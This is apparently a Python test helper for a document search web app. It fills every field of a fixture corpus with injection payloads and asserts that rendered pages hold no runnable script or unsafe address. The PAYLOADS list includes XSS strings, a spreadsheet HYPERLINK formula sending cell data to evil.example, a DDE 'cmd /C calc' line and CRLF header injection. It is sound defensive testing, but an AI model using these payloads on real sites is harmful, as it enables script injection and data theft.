"""A reading room in which every field of every document, theme and edition would run a script if anything let it."""

from __future__ import annotations

import re
from collections.abc import Sequence
from dataclasses import dataclass, replace
from pathlib import Path
from urllib.parse import urlsplit

from search.model import (
    Box,
    DocumentQuality,
    Edition,
    Finding,
    FindingType,
    LabelSource,
    NoteSign,
    PageQuality,
    PageVerdict,
    Passage,
    Theme,
    ThemeMark,
    Themes,
)
from search.settings import Settings
from search.store.glossary import Acronym, Glossary
from tests.factories import make_document, make_passages
from tests.webapp.library import REWORDED, STATIC, WITHDRAWN, Shelved, draw_pdf, publish
from tests.webapp.markup import Page, read_page

PAYLOADS = (
    "<script>alert(1)</script>",
    "\"'><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "` onclick=alert(1) `",
    "javascript:alert(1)",
    " JaVa\tScRiPt:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "</title></textarea></style></script><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "]]><script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<svg/onload=alert(1)><math><mi xlink:href='javascript:alert(1)'>",
    '<a href="javascript:alert(1)">x</a><iframe srcdoc="<script>alert(1)</script>">',
    "<base href='//evil.example/'><meta http-equiv=refresh content='0;url=//evil.example'>",
    "{{912*912}}${912*912}<%= 912*912 %>#{912*912}",
    "//evil.example/\\evil.example",
    '=HYPERLINK("http://evil.example?"&A1,"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>",
    "\u202e\u2066<script>alert(1)</script>\u2028\ufeff",
)
ELEMENTS = frozenset(
    re.findall(
        r"\w+",
        """
    html head meta title link script body a header nav main footer p div span form label input button
    select option fieldset legend section article aside h1 h2 h3 h4 ul ol li dl dt dd table thead tbody
    tr th td caption mark em strong code pre kbd details summary img svg rect image line g q blockquote cite del ins
    small sup textarea time b i br datalist output figure figcaption
""",
    )
)
"""What pages are made of; nothing among it loads or runs anything but `script`, `link`, `img` and `image`, which are looked at."""
ADDRESSES = frozenset(
    {"href", "src", "action", "formaction", "data", "poster", "srcset", "xlink:href", "cite", "background"}
)
SCRIPTS = frozenset({f"{STATIC}room.js"})


@dataclass(frozen=True)
class HostileRoom:
    """Where it lies, and all passages."""

    settings: Settings
    passages: tuple[Passage, ...]


def build_hostile(folder: Path) -> HostileRoom:
    """One document, theme and edition for each payload, in every field of which it stands."""
    settings = Settings(corpus=folder / "corpus", index=folder / "index")
    shelf = [_document(settings.corpus, number, payload) for number, payload in enumerate(PAYLOADS)]
    former: dict[str, dict[str, object]] = {}
    for number, (payload, (_, passages)) in enumerate(zip(PAYLOADS, shelf, strict=True)):
        record: dict[str, object] = {
            "text": f"{payload} was said",
            "since": "2024-05-02",
            "history": [{"at": payload, "state": payload}],
        }
        successor = passages[0].passage_id
        former[f"d{number}/{REWORDED}"] = {**record, "state": "reworded", "successor": successor}
        former[f"d{number}/{WITHDRAWN}"] = {**record, "state": "withdrawn", "successor": None}
    editions = [_edition(number, payload) for number, payload in enumerate(PAYLOADS)]
    themes = Themes.of(tuple(_theme(number, payload) for number, payload in enumerate(PAYLOADS)))
    acronyms = tuple(Acronym(f"ACRO{n} {payload}", (payload,), 1) for n, payload in enumerate(PAYLOADS))
    glossary = Glossary(acronyms, tuple((f"payload {payload}", 2) for payload in PAYLOADS))
    publish(settings.index, shelf, former, editions, themes, glossary)
    return HostileRoom(settings, tuple(passage for _, passages in shelf for passage in passages))


def _edition(number: int, payload: str) -> Edition:
    words = (payload, payload)
    return Edition(f"e{number}", payload, payload, "2022-01", "2022-02", payload, words, payload, words)


def _theme(number: int, payload: str) -> Theme:
    others = (f"t{(number + 1) % len(PAYLOADS)}",)
    words = (payload,)
    return Theme(f"t{number}", payload, payload, words, words, words, words, others, others, words, words)


def _document(corpus: Path, number: int, payload: str) -> Shelved:
    """A PDF of one page, whose name holds the payload as far as a file system takes it."""
    name = re.sub(r"[/\x00]", "-", payload)[:100]
    path = f"{name} {number}.pdf"
    document = make_document(
        f"d{number}",
        path=path,
        sha256=draw_pdf(corpus / path, ["payload"]),
        title=payload,
        kind=payload,
        media_type="application/pdf",
        edition=f"e{number}",
        date="2022-01-02",
        authors=(payload, payload),
        speakers=(payload,),
        language=payload,
        publisher=payload,
        source_url=payload,
        rights=payload,
        pages=1,
        words=10,
        passages=2,
        notes=(payload,),
        catalogued=bool(number % 2),
        quality=DocumentQuality(
            PageVerdict.DOUBTFUL, (payload,), (PageQuality(1, PageVerdict.DOUBTFUL, (payload,), 50),)
        ),
    )
    return document, _passages(number, payload)


def _passages(number: int, payload: str) -> tuple[Passage, ...]:
    texts = (f"{payload} payload recommended that something be done here", f"payload again {payload}")
    first, second = make_passages(
        f"d{number}",
        texts,
        page=1,
        page_end=1,
        page_label=payload,
        heading_path=(payload, f"heading: {payload}"),
        speaker=payload,
        number=payload,
        label_from=LabelSource.HEAD,
        label_other=payload,
        boxes=(Box(1, 10, 10, 50, 20),),
        finding=Finding(FindingType.RECOMMENDATION, payload, payload, payload),
        themes=(ThemeMark(f"t{number}", (payload, f"heading: {payload}", f"staff: {payload}")),),
    )
    signed = replace(first, footnotes=(NoteSign(payload, 3, second.passage_id), NoteSign(payload, 6)))
    return signed, replace(second, mark=payload, note_of=(first.passage_id,))


def check_page(html: str, *, saved: bool = False) -> Page:
    """Fails where a page has anything that runs, or an address that would; returns the page.

    One that is to be saved has its style in itself, which must not hold any words of ours or of others.
    """
    page = read_page(html)
    assert len(page.all("style")) == saved
    assert not any("<" in style or "alert" in style for style in page.texts("style"))
    for tag, attributes in page.elements:
        assert tag in ELEMENTS or (saved and tag == "style"), f"<{tag}>"
        assert "http-equiv" not in attributes
        for name, value in attributes.items():
            assert not name.startswith("on"), (tag, attributes)
            assert name not in ("style", "srcdoc"), (tag, attributes)
            if name in ADDRESSES:
                check_address(value)
    _check_scripts(page.elements)
    assert "831744" not in html, "a template was run"
    return page


def _check_scripts(elements: Sequence[tuple[str, dict[str, str]]]) -> None:
    """Scripts are files of ours, or data."""
    for tag, attributes in elements:
        if tag == "script" and attributes.get("type") != "application/ld+json":
            assert attributes["src"].partition("?")[0] in SCRIPTS
        if tag == "img":
            assert attributes["src"].startswith("/d/"), attributes
        if tag == "image":
            assert attributes["href"].startswith("/d/"), attributes
        if tag == "link":
            assert urlsplit(attributes["href"]).netloc in ("", "localhost"), attributes


def check_address(address: str) -> None:
    """An address leads within the reading room, or is an ordinary web address."""
    plain = re.sub(
        r"[\x00-\x20]", "", address
    ).lower()  # browsers leave these out before they look for the scheme
    scheme = re.match(r"([a-z][a-z0-9+.-]*):", plain)
    assert scheme is None or scheme[1] in ("http", "https"), address
    assert not plain.startswith(("//", "/\\", "\\")), address
